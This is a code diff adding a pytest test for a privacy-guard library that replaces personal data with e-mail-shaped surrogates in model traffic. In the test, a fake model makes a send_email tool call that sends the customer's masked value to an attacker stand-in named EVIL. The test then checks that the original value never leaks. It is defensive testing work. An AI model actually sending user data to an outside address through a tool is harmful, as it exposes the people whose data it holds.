@@ -584,6 +584,40 @@ def test_the_gateways_restore_endpoint_restores_for_the_keys_subjects_only() -> 
             assert ORIGINAL not in down.text and "vault" in down.json()["error"]["message"]
 
 
+@pytest.mark.parametrize("stream", [False, True])
+def test_realistic_surrogates_in_kept_arguments_restore_late(stream: bool) -> None:
+    """With realistic surrogates the model writes an e-mail-shaped stand-in into the
+    untrusted tool's arguments: it reaches the agent as a stand-in (or its token), never
+    the original, and the late restore gives the original."""
+    policy = _policy().model_copy(update={"surrogates": ["email"]})
+    guard = aiguard.Guard(policy)
+
+    def reply(payload: dict[str, Any]) -> Answer:
+        sent = payload["messages"][-1]["content"]
+        surrogate = sent.split("orders of ")[1].rstrip(".")
+        assert surrogate.endswith("aiguard.invalid"), sent
+        body = json.dumps({"to": EVIL, "body": surrogate})
+        return Answer(tool_calls=(ToolCall("send_email", body),))
+
+    client = _openai(guard, FakeModel(reply=reply, chunk_size=4))
+    messages: Any = [{"role": "user", "content": QUESTION}]
+    with guard.context(subject="cust-42", purpose="inference"):
+        if stream:
+            chunks = client.chat.completions.create(model="gpt-4o", messages=messages, stream=True)
+            raw = "".join(
+                c.choices[0].delta.tool_calls[0].function.arguments or ""
+                for c in chunks
+                if c.choices and c.choices[0].delta.tool_calls
+            )
+        else:
+            done = client.chat.completions.create(model="gpt-4o", messages=messages)
+            raw = done.choices[0].message.tool_calls[0].function.arguments
+        body = json.loads(raw)["body"]
+        assert ORIGINAL not in raw
+        assert body.endswith("aiguard.invalid") or TOKEN_RE.fullmatch(body), body
+        assert json.loads(guard.restore_tool_arguments(raw))["body"] == ORIGINAL
+
+
 # -- the late restore ---------------------------------------------------------------------
 
 
